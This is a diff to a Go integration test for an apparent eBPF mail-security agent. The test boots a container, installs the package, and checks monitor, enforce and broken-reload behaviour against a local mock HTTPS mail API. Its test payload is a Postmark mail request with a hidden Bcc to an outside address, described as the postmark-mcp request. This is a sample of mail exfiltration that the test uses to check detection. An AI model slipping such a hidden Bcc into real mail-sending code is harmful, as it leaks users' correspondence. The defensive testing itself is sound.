@@ -19,8 +19,8 @@ import (
 // with mmdebstrap (~20 s). With AARSM_TEST_CACHE set it is kept there and
 // reused; bump rootfsName when the package list changes.
 const (
-	rootfsName     = "rootfs-bookworm-systemd-v2"
-	rootfsPackages = "systemd,systemd-sysv,dbus,procps"
+	rootfsName     = "rootfs-bookworm-systemd-v3"
+	rootfsPackages = "systemd,systemd-sysv,dbus,procps,curl,openssl,python3,ca-certificates"
 )
 
 var (
@@ -75,10 +75,13 @@ type container struct {
 
 // bootContainer boots systemd in a container (never on the host's root) and
 // waits until it has finished booting. pkgDir is visible inside as /pkgs.
+// The container runs in a cgroup of its own, made for it: its cgroup
+// namespace's root is that cgroup, never the host's root cgroup.
 func bootContainer(t *testing.T, pkgDir string, extraArgs ...string) *container {
 	t.Helper()
 	requireTool(t, "systemd-nspawn", "systemd-container")
 	root := debianRoot(t)
+	cg := newCgroup(t)
 	suffix := make([]byte, 4)
 	if _, err := rand.Read(suffix); err != nil {
 		t.Fatal(err)
@@ -92,8 +95,10 @@ func bootContainer(t *testing.T, pkgDir string, extraArgs ...string) *container 
 	c.cmd = exec.Command("systemd-nspawn", args...)
 	c.cmd.Env = append(os.Environ(), "SYSTEMD_NSPAWN_UNIFIED_HIERARCHY=1")
 	c.cmd.Stdout, c.cmd.Stderr = c.log, c.log
-	c.cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
-	if err := c.cmd.Start(); err != nil {
+	c.cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true, UseCgroupFD: true, CgroupFD: cg.fd}
+	err := c.cmd.Start()
+	cg.closeFD()
+	if err != nil {
 		t.Fatalf("systemd-nspawn: %v", err)
 	}
 	go func() { c.waitErr = c.cmd.Wait(); close(c.done) }()
@@ -271,10 +276,12 @@ func TestDebLifecycle(t *testing.T) {
 	copyFile(t, v1.deb, filepath.Join(pkgs, "v1.deb"))
 	copyFile(t, v2.deb, filepath.Join(pkgs, "v2.deb"))
 	c := bootContainer(t, pkgs)
-	debLifecycle(t, c, true)
+	debLifecycle(t, c, true, nil)
 }
 
-func debLifecycle(t *testing.T, c *container, fake bool) {
+// debLifecycle installs v1, runs installed (if set) against it, upgrades to
+// v2, removes, installs again and purges.
+func debLifecycle(t *testing.T, c *container, fake bool, installed func()) {
 	t.Log(c.sh(t, "dpkg -i /pkgs/v1.deb 2>&1"))
 
 	// Installed, enabled per preset, started.
@@ -307,6 +314,9 @@ func debLifecycle(t *testing.T, c *container, fake bool) {
 		t.Errorf("unit active %d µs after start, before the agent's READY=1 (300 ms)", r-s)
 	}
 	pid1 := c.unitProp(t, "MainPID")
+	if installed != nil {
+		installed()
+	}
 
 	if fake {
 		// Reload: the agent reloads; a broken policy fails the reload and
@@ -365,6 +375,7 @@ func debLifecycle(t *testing.T, c *container, fake bool) {
 	if !c.exists("/etc/aarsm/policy.d/default.hcl") || !c.exists("/var/lib/aarsm") {
 		t.Errorf("remove (not purge) deleted configuration or state")
 	}
+	c.noAgentLeft(t, "after remove")
 
 	// Installing again after a removal enables again.
 	c.sh(t, "dpkg -i --force-confold /pkgs/v2.deb 2>&1")
@@ -385,11 +396,30 @@ func debLifecycle(t *testing.T, c *container, fake bool) {
 	if a := c.isActive(); a == "active" {
 		t.Errorf("after purge: still active")
 	}
+	c.noAgentLeft(t, "after purge")
+}
+
+// noAgentLeft checks that no agent process runs and nothing is pinned in
+// the agent's bpffs directory: no probe or quarantine outlives the package.
+func (c *container) noAgentLeft(t *testing.T, when string) {
+	t.Helper()
+	if out, err := c.try("pgrep -a aarsm"); err == nil {
+		t.Errorf("%s: aarsm processes left:\n%s", when, out)
+	}
+	if out, err := c.try("ls -A /sys/fs/bpf/aarsm"); err == nil && strings.TrimSpace(out) != "" {
+		t.Errorf("%s: pinned objects left in /sys/fs/bpf/aarsm: %s", when, out)
+	}
 }
 
 // TestDebLifecycleRealAgent is TestDebLifecycle with the real agent. It runs
 // once "aarsm run -h" mentions sd_notify ("notify"), i.e. once "run" exists.
-// The container then also gets what BPF needs (see systemd/README.md).
+//
+// The container gets what BPF needs (see systemd/README.md) and is kept
+// apart from the host: a bpffs of its own as /sys/fs/bpf (the pins go with
+// it), a cgroup of its own, and a drop-in that scopes holding to the
+// container's cgroup tree. The agent itself, in the container's pid
+// namespace, sees only the container's processes (the sensor translates
+// ids to its namespace and ignores threads of others).
 func TestDebLifecycleRealAgent(t *testing.T) {
 	requireRoot(t)
 	p := releasePackages(t)
@@ -401,15 +431,173 @@ func TestDebLifecycleRealAgent(t *testing.T) {
 	pkgs := t.TempDir()
 	copyFile(t, p.deb, filepath.Join(pkgs, "v1.deb"))
 	copyFile(t, v2.deb, filepath.Join(pkgs, "v2.deb"))
+	copyFile(t, filepath.Join(repoRoot, "hcl", "policies", "company.hcl"), filepath.Join(pkgs, "company.hcl"))
+	bpffs := privateBPFFS(t)
+	// tracefs: a --bind-ro=/sys/kernel/tracing is hidden under the sysfs
+	// nspawn mounts on /sys/kernel afterwards (with --private-network);
+	// with CAP_SYS_RAWIO the container's systemd mounts it itself
+	// (sys-kernel-tracing.mount, which aarsm.service wants).
 	c := bootContainer(t, pkgs,
-		"--capability=CAP_BPF,CAP_PERFMON,CAP_NET_ADMIN",
+		"--capability=CAP_BPF,CAP_PERFMON,CAP_NET_ADMIN,CAP_SYS_RAWIO",
 		"--system-call-filter=bpf perf_event_open",
-		"--bind=/sys/fs/bpf", "--bind-ro=/sys/kernel/tracing")
-	debLifecycle(t, c, false)
-	// TODO(issue 6, when "run" works): a verdict in the journal. Install
-	// v1, start a TLS mail client against a local server inside the
-	// container (agent/internal/testenv), then
-	//   journalctl -u aarsm MESSAGE_ID=<messageID> -o json
-	// must have AARSM_VERDICT, AARSM_POLICY=default, AARSM_RULES, ...; and
-	// a reload with a broken policy must log the error and keep judging.
+		"--bind="+bpffs+":/sys/fs/bpf")
+	// Before the package starts the agent: hold only in the container's
+	// cgroup namespace root, which is the cgroup nspawn runs it in.
+	c.sh(t, `mkdir -p /etc/systemd/system/aarsm.service.d && cat > /etc/systemd/system/aarsm.service.d/test.conf <<'EOF'
+[Service]
+ExecStart=
+ExecStart=/usr/bin/aarsm run --policy-dir /etc/aarsm/policy.d --log-format journal --hold-cgroup /sys/fs/cgroup
+EOF`)
+	debLifecycle(t, c, false, func() { realAgentScenario(t, c) })
+}
+
+// mailServer is a python3 HTTPS server on 127.0.0.1:8443 in the container
+// (a transient unit) that answers every POST with 200.
+const mailServer = `import http.server, ssl
+class H(http.server.BaseHTTPRequestHandler):
+    def do_POST(self):
+        self.rfile.read(int(self.headers.get("Content-Length", 0)))
+        self.send_response(200)
+        self.send_header("Content-Length", "2")
+        self.end_headers()
+        self.wfile.write(b"{}")
+s = http.server.HTTPServer(("127.0.0.1", 8443), H)
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+ctx.load_cert_chain("/root/tls/cert.pem", "/root/tls/key.pem")
+s.socket = ctx.wrap_socket(s.socket, server_side=True)
+s.serve_forever()
+`
+
+// postmarkMail is the postmark-mcp request: a hidden Bcc.
+const postmarkMail = `{"From":"a@company.com","To":"b@company.com","Bcc":"phan@giftshop.club","Subject":"Invoice","TextBody":"see attached"}`
+
+// sendMail posts postmarkMail with curl (libssl) and reports whether curl
+// succeeded. curl runs in a scope unit: inside the container's cgroup tree,
+// where the agent holds writes (nsenter alone leaves it in the test's).
+func (c *container) sendMail(t *testing.T) (string, bool) {
+	out, err := c.try(`systemd-run --quiet --scope --property=DefaultDependencies=no curl -sS --fail --max-time 30 --cacert /root/tls/cert.pem https://127.0.0.1:8443/email ` +
+		`-H 'Content-Type: application/json' -H 'X-Postmark-Server-Token: test' -d '` + postmarkMail + `' 2>&1`)
+	return out, err == nil
+}
+
+// verdicts returns the agent's journal entries with AARSM_VERDICT=decision
+// that name phan@giftshop.club, waiting for the journal to have n of them.
+func (c *container) verdicts(t *testing.T, decision string, n int) []string {
+	t.Helper()
+	deadline := time.Now().Add(30 * time.Second)
+	for {
+		out, _ := c.try("journalctl -u aarsm AARSM_VERDICT=" + decision + " -o json --no-pager")
+		var hits []string
+		for _, l := range strings.Split(out, "\n") {
+			if strings.Contains(l, "phan@giftshop.club") {
+				hits = append(hits, l)
+			}
+		}
+		if len(hits) >= n || time.Now().After(deadline) {
+			return hits
+		}
+		time.Sleep(200 * time.Millisecond)
+	}
+}
+
+// realAgentScenario runs against the freshly installed v1: the agent sees
+// a mail sent inside the container, status answers, a reload to an
+// enforcing policy blocks, a broken reload changes nothing.
+func realAgentScenario(t *testing.T, c *container) {
+	start, ready := c.unitProp(t, "ExecMainStartTimestampMonotonic"), c.unitProp(t, "ActiveEnterTimestampMonotonic")
+	var s, r int64
+	fmt.Sscan(start, &s)
+	fmt.Sscan(ready, &r)
+	t.Logf("the agent was ready (READY=1) %.0f ms after its start", float64(r-s)/1000)
+	journal := c.sh(t, "journalctl -u aarsm --no-pager -o cat")
+	if !strings.Contains(journal, "msg=enforcing") {
+		t.Errorf("no 'enforcing' in the agent's log:\n%s", journal)
+	}
+	if strings.Contains(journal, "pid namespace") {
+		t.Logf("the agent noticed its pid namespace")
+	}
+	st := c.sh(t, "aarsm status")
+	t.Logf("aarsm status:\n%s", st)
+	for _, want := range []string{"policies:    1", "default", "monitor", "libssl.so", "holding:     processes in /sys/fs/cgroup"} {
+		if !strings.Contains(st, want) {
+			t.Errorf("aarsm status has no %q", want)
+		}
+	}
+	if mode := c.sh(t, "stat -c %a /run/aarsm/aarsm.sock"); mode != "600" {
+		t.Errorf("status socket mode %s, want 600", mode)
+	}
+
+	c.sh(t, `mkdir -p /root/tls && cd /root/tls && openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj /CN=127.0.0.1 `+
+		`-addext subjectAltName=IP:127.0.0.1 -keyout key.pem -out cert.pem 2>/dev/null`)
+	c.sh(t, "cat > /root/server.py <<'EOF'\n"+mailServer+"EOF")
+	c.sh(t, "systemd-run --unit=mailapi --property=DefaultDependencies=no python3 /root/server.py")
+	deadline := time.Now().Add(30 * time.Second)
+	// 127.0.0.1:8443 (0x20FB) listening (0A) in /proc/net/tcp.
+	for !strings.Contains(c.try0("cat /proc/net/tcp"), "0100007F:20FB 00000000:0000 0A") {
+		if time.Now().After(deadline) {
+			t.Fatalf("the mail API server did not listen:\n%s", c.try0("journalctl -u mailapi --no-pager"))
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+
+	// Monitor mode (the shipped default policy): the mail leaves, the
+	// verdict is an alert naming the hidden Bcc.
+	if out, ok := c.sendMail(t); !ok {
+		t.Errorf("monitor mode: curl failed: %s", out)
+	}
+	if v := c.verdicts(t, "alert", 1); len(v) < 1 {
+		t.Errorf("no alert naming phan@giftshop.club in the journal:\n%s", c.try0("journalctl -u aarsm --no-pager | tail -30"))
+	} else {
+		t.Logf("verdict: %s", v[0])
+	}
+
+	// An enforcing policy, reloaded: the same mail is blocked.
+	c.sh(t, "sed 's/email_security_policy \"company\"/email_security_policy \"enforce\"/' /pkgs/company.hcl > /etc/aarsm/policy.d/zz-enforce.hcl")
+	c.sh(t, "systemctl reload aarsm")
+	if out, ok := c.sendMail(t); ok {
+		t.Errorf("enforce mode: curl succeeded: %s", out)
+	}
+	if v := c.verdicts(t, "block", 1); len(v) < 1 {
+		t.Errorf("no block naming phan@giftshop.club in the journal:\n%s", c.try0("journalctl -u aarsm --no-pager | tail -30"))
+	}
+	if got := c.try0("journalctl -u mailapi --no-pager -o cat"); strings.Count(got, "POST /email") != 1 {
+		t.Errorf("the server should have seen exactly the first (monitored) mail:\n%s", got)
+	}
+
+	// A broken policy: the reload fails, the agent keeps running with the
+	// policies it has, and keeps judging.
+	pid := c.unitProp(t, "MainPID")
+	c.sh(t, "printf 'email_security_policy \"broken\" {\\n  mode = \\n' > /etc/aarsm/policy.d/zz-broken.hcl")
+	if out, err := c.try("systemctl reload aarsm 2>&1"); err == nil {
+		t.Errorf("systemctl reload with a broken policy succeeded:\n%s", out)
+	}
+	if a := c.isActive(); a != "active" {
+		t.Errorf("after a failed reload: is-active = %q", a)
+	}
+	if p := c.unitProp(t, "MainPID"); p != pid {
+		t.Errorf("after a failed reload: MainPID %s, was %s", p, pid)
+	}
+	// The agent itself rejects it too (SIGHUP without the check first).
+	c.sh(t, "kill -HUP "+pid)
+	deadline = time.Now().Add(30 * time.Second)
+	for !strings.Contains(c.try0("aarsm status"), "last reload: FAILED") {
+		if time.Now().After(deadline) {
+			t.Fatalf("aarsm status shows no failed reload:\n%s", c.try0("aarsm status"))
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	st = c.sh(t, "aarsm status")
+	if !strings.Contains(st, "policies:    2") || !strings.Contains(st, "enforce") {
+		t.Errorf("after a broken reload, status:\n%s", st)
+	}
+	if _, ok := c.sendMail(t); ok {
+		t.Errorf("after a broken reload: the mail was not blocked")
+	}
+	if v := c.verdicts(t, "block", 2); len(v) < 2 {
+		t.Errorf("after a broken reload: no second block in the journal")
+	}
+	if !strings.Contains(c.try0("journalctl -u aarsm --no-pager -o cat"), "zz-broken.hcl:") {
+		t.Errorf("the agent did not log the broken policy's diagnostics")
+	}
+	c.sh(t, "rm /etc/aarsm/policy.d/zz-broken.hcl /etc/aarsm/policy.d/zz-enforce.hcl && systemctl reload aarsm && systemctl stop mailapi")
 }
